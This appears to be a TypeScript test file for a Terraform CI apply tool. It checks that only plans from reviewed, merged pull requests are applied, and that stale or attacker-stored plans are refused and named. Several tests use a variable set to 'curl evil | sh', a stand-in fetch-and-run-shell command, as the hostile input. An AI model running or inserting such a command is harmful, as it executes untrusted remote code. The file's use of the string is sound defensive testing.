import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { createFakeTerraformRun, type FakeTerraformRun, type FakeTerraformRunOptions } from '../testing/fake-run.ts'
import { createFakeState } from '../testing/fake-terraform.ts'
import { applyAll } from './apply.ts'
import type { ApplyPolicy } from './apply-plan.ts'
import type { ReviewedCommit, ReviewedCommits, RootResult, TerraformRun } from './model.ts'
import { planAll } from './plan.ts'
import { digestPlanSet } from './plan-set.ts'
import { defaultApplyPolicy } from '../testing/apply-policy.ts'

const policy: ApplyPolicy = { ...defaultApplyPolicy, withoutPlan: 'refused', deferred: 'stop' }

let fake: FakeTerraformRun
afterEach(() => {
  fake[Symbol.dispose]()
})

const head = 'a'.repeat(40)
const otherHead = 'b'.repeat(40)
const creates = { changes: ['create aws_vpc.a'] }

const createCommit = (commit: string, number: number): ReviewedCommit => ({
  commit,
  pullRequest: { number, url: `https://github.com/org/app/pull/${number}` },
})

/** What GitHub says: #1 is the merged pull request of this run, #2 was merged before. */
const setMerged = (own: readonly ReviewedCommit[], others: readonly ReviewedCommit[] = []): Partial<TerraformRun> => ({
  reviews: (): Promise<ReviewedCommits> =>
    Promise.resolve({ own, listOthers: () => Promise.resolve(others), unknown: undefined }),
})

function create(roots: FakeTerraformRunOptions['roots'], edges: readonly string[] = []): FakeTerraformRun {
  fake = createFakeTerraformRun({ roots, edges })
  return fake
}

/** Plans as a pull request with this head does. */
const planForReview = async (commit: string, run = 'https://github.com/org/app/actions/runs/7') =>
  planAll(fake.next({ store: fake.store.writingTo('review'), origin: { commit, run } }), 'defer')

/** Applies as the protected job after the merge of #1 does. */
const applyMerged = (
  values: Partial<ApplyPolicy> = {},
  commits = setMerged([createCommit(head, 1)], [createCommit(otherHead, 2)]),
) => applyAll(fake.next(commits), { ...policy, ...values })

const formatResult = ({ status, note, error }: RootResult): string =>
  [status, error?.code, note === '' ? undefined : `(${note})`].filter((part) => part !== undefined).join(' ')
const readVpc = async (results: ReturnType<typeof applyMerged>): Promise<RootResult> => (await results).get('vpc')!
const countApplies = (): number => fake.terraform.commands.filter((command) => command.startsWith('apply ')).length

describe('a root with the plan of a pull request', () => {
  test('is planned again from the merged code, and applied if that does the same', async () => {
    create({ vpc: creates })
    await planForReview(head)
    const result = await readVpc(applyMerged())
    expect(formatResult(result)).toBe('applied (as reviewed in #1)')
    expect(result.comparedWith).toEqual({
      ...createCommit(head, 1),
      run: 'https://github.com/org/app/actions/runs/7',
    })
    expect(fake.terraform.commands.filter((command) => command === 'plan vpc')).toHaveLength(2)
  })

  test('keeps nothing that could be applied: no plan file, no lock file', async () => {
    create({ vpc: { ...creates, lockFile: '# locked\n' } })
    await planForReview(head)
    for (const record of fake.store.plans.values())
      expect(record).toMatchObject({ status: 'planned', planDigest: undefined })
    await expect(
      fake.store.fetch(fake.run.tasks.get('vpc')!.root, [...fake.store.plans.values()][0]!, '/x'),
    ).rejects.toThrow('no plan file')
  })

  test('is applied once', async () => {
    create({ vpc: creates })
    await planForReview(head)
    await applyMerged()
    fake.root('vpc').changes = creates.changes
    expect(await readVpc(applyMerged())).toMatchObject({ status: 'failed', error: { code: 'plan-required' } })
    expect(countApplies()).toBe(1)
  })

  test('that another pull request planned, merged before without an apply, is compared with that one', async () => {
    create({ vpc: creates })
    await planForReview(otherHead)
    const result = await readVpc(applyMerged())
    expect(formatResult(result)).toBe('applied (as reviewed in #2)')
  })

  test('after an apply that failed half-way needs no other review', async () => {
    create({ vpc: { changes: ['create aws_vpc.a', 'create aws_vpc.b'] } })
    await planForReview(head)
    fake.root('vpc').state = createFakeState({ serial: 2 })
    fake.root('vpc').changes = ['create aws_vpc.b']
    expect(formatResult(await readVpc(applyMerged()))).toBe(
      'applied (as reviewed in #1; 1 of 2 reviewed changes were left to make)',
    )
  })

  test('that would do more now is not applied, and says what it was compared with and what differs', async () => {
    create({ vpc: creates })
    await planForReview(head)
    fake.root('vpc').changes = ['create aws_vpc.a', 'update aws_vpc.b']
    const result = await readVpc(applyMerged())
    expect(formatResult(result)).toBe('failed plan-stale (the stored plan is no longer valid)')
    expect(result.error?.details).toEqual([
      `compared with the plan of #1 for commit ${head.slice(0, 7)} (https://github.com/org/app/actions/runs/7)`,
      'aws_vpc.b: update was not reviewed',
      'reviewed: 1 to add, 0 to change, 0 to destroy',
      'now: 1 to add, 1 to change, 0 to destroy',
    ])
    expect(countApplies()).toBe(0)
  })

  test('that would do something else is applied where the input says so', async () => {
    create({ vpc: creates })
    await planForReview(head)
    fake.root('vpc').changes = ['create aws_vpc.b']
    const { note, status } = await readVpc(applyMerged({ withoutPlan: 'allowed', stale: 'apply' }))
    expect(status).toBe('applied')
    expect(note).toMatch(
      /^not as reviewed, by stale-plan: apply; differs from the plan of #1 .*aws_vpc\.b: create was not reviewed/,
    )
  })

  describe('with a downloaded module that is another one now', () => {
    const installModule = (text: string): void => {
      const task = fake.run.tasks.get('vpc')
      const folder = path.join(fake.run.terraform.getDataFolder(task!.root), 'modules')
      mkdirSync(path.join(folder, 'it'), { recursive: true })
      const entry = { Key: 'it', Source: 'git::https://example.com/it.git?ref=v1', Dir: path.join(folder, 'it') }
      writeFileSync(path.join(folder, 'modules.json'), JSON.stringify({ Modules: [entry] }))
      writeFileSync(path.join(folder, 'it/main.tf'), text)
    }

    test('is not applied although the changes are the same, and runs nothing of it', async () => {
      create({ vpc: creates })
      installModule('# reviewed')
      await planForReview(head)
      installModule('# moved')
      const result = await readVpc(applyMerged())
      expect(formatResult(result)).toBe(
        'failed plan-stale (a downloaded module is no longer the one that was reviewed)',
      )
      expect(result.error?.details).toContain(
        'module it (git::https://example.com/it.git?ref=v1) changed at its source',
      )
      expect(fake.terraform.commands.filter((command) => command === 'plan vpc')).toHaveLength(1)
    })

    test('is applied where the input says so', async () => {
      create({ vpc: creates })
      installModule('# reviewed')
      await planForReview(head)
      installModule('# moved')
      expect((await readVpc(applyMerged({ stale: 'apply', withoutPlan: 'allowed' }))).status).toBe('applied')
    })
  })

  test('that claimed no changes is planned all the same', async () => {
    create({ vpc: {} })
    await planForReview(head)
    fake.root('vpc').changes = creates.changes
    const result = await readVpc(applyMerged())
    expect(result.error?.details).toContain('aws_vpc.a: create was not reviewed')
  })

  test.each([
    ['has no changes now', {}, 'unchanged (as planned)'],
    ['had none and has none', { changes: [] }, 'unchanged (as planned)'],
  ])('that %s is left alone', async (_case, planned, expected) => {
    create({ vpc: { ...creates, ...planned } })
    await planForReview(head)
    fake.root('vpc').changes = []
    expect(formatResult(await readVpc(applyMerged()))).toBe(expected)
  })

  test('is recognised by the digest of the plan', async () => {
    create({ vpc: { ...creates, secret: 'correct-horse' } })
    const planned = await planForReview(head)
    const digest = (results: typeof planned): string =>
      digestPlanSet(
        [...results.values()].map(({ task, meaning, written }) => ({
          ...{ root: task.root.name, mode: task.mode },
          ...{ meaning, written },
        })),
      )
    const applied = await applyMerged({ reviewed: digest(planned) })
    expect(formatResult(applied.get('vpc')!)).toBe('applied (as reviewed in #1)')
    expect(digest(applied)).toBe(digest(planned))
  })
})

describe('a plan that an unmerged pull request stored', () => {
  const attacker = 'e'.repeat(40)

  test('with other variables does not replace the reviewed one', async () => {
    create({ vpc: creates })
    await planForReview(head)
    fake.root('vpc').variables = { command: 'curl evil | sh' }
    await planForReview(attacker)
    fake.root('vpc').variables = {}
    expect(formatResult(await readVpc(applyMerged()))).toBe('applied (as reviewed in #1)')
  })

  test('does not count where nothing else was reviewed, and is named', async () => {
    create({ vpc: creates })
    await planForReview(attacker, 'https://github.com/org/app/actions/runs/666')
    const result = await readVpc(applyMerged())
    expect(result.error?.code).toBe('plan-required')
    expect(result.error?.details[0]).toBe(
      'not counted: the plan for commit eeeeeee (https://github.com/org/app/actions/runs/666), which no merged pull request has as its head',
    )
  })

  test('is named also where the apply needs no review', async () => {
    create({ vpc: creates })
    await planForReview(attacker)
    const result = await readVpc(applyMerged({ withoutPlan: 'allowed' }))
    expect(result).toMatchObject({ status: 'applied', comparedWith: undefined })
    expect(result.refusals).toEqual([expect.stringContaining('not counted: the plan for commit eeeeeee')])
  })

  test('under the name of the reviewed commit stops the apply, and is never executed', async () => {
    create({ vpc: creates })
    await planForReview(head)
    fake.root('vpc').variables = { command: 'curl evil | sh' }
    await planForReview(head)
    fake.root('vpc').variables = {}
    const result = await readVpc(applyMerged())
    expect(result.error).toMatchObject({ code: 'plan-stale' })
    expect(result.error?.details).toContain('variable command is not set now')
    expect(countApplies()).toBe(0)
  })

  test('has another digest if only a variable differs', async () => {
    create({ vpc: creates })
    const digest = async (): Promise<string> => {
      const results = await planForReview(head)
      return digestPlanSet(
        [...results.values()].map(({ meaning, written }) => ({ root: 'vpc', mode: 'normal', meaning, written })),
      )
    }
    const reviewed = await digest()
    fake.root('vpc').variables = { command: 'curl evil | sh' }
    expect(await digest()).not.toBe(reviewed)
    await expect(applyMerged({ reviewed })).rejects.toMatchObject({ code: 'plan-stale' })
  })

  test('counts where GitHub cannot be asked only as far as the merged code does the same', async () => {
    create({ vpc: creates })
    await planForReview(attacker)
    expect(formatResult(await readVpc(applyAll(fake.next(), policy)))).toBe('applied (as reviewed)')
    await planForReview(attacker)
    fake.root('vpc').changes = creates.changes
    expect((await readVpc(applyAll(fake.next(), policy))).error?.code).toBe('plan-stale')
  })
})

describe('a deferred root, with a required plan', () => {
  const roots = { vpc: { changes: ['output vpc_id'] }, eks: creates, app: {} }
  const edges = ['vpc > eks: vpc_id', 'vpc > app: vpc_id']

  test('is not applied after the reviewed roots, unless it has no changes', async () => {
    create(roots, edges)
    await planForReview(head)
    const results = await applyMerged()
    expect([...results.values()].map(formatResult)).toEqual([
      'applied (as reviewed in #1)',
      'deferred (reads vpc_id of vpc, which will change)',
      'unchanged (was deferred: reads vpc_id of vpc, which was about to change)',
    ])
  })

  test('is applied where the input says so, and is known as not reviewed', async () => {
    create(roots, edges)
    await planForReview(head)
    const results = await applyMerged({ deferred: 'apply' })
    expect([...results.values()].map(({ status, unreviewed }) => [status, unreviewed])).toEqual([
      ['applied', false],
      ['applied', true],
      ['unchanged', false],
    ])
  })
})
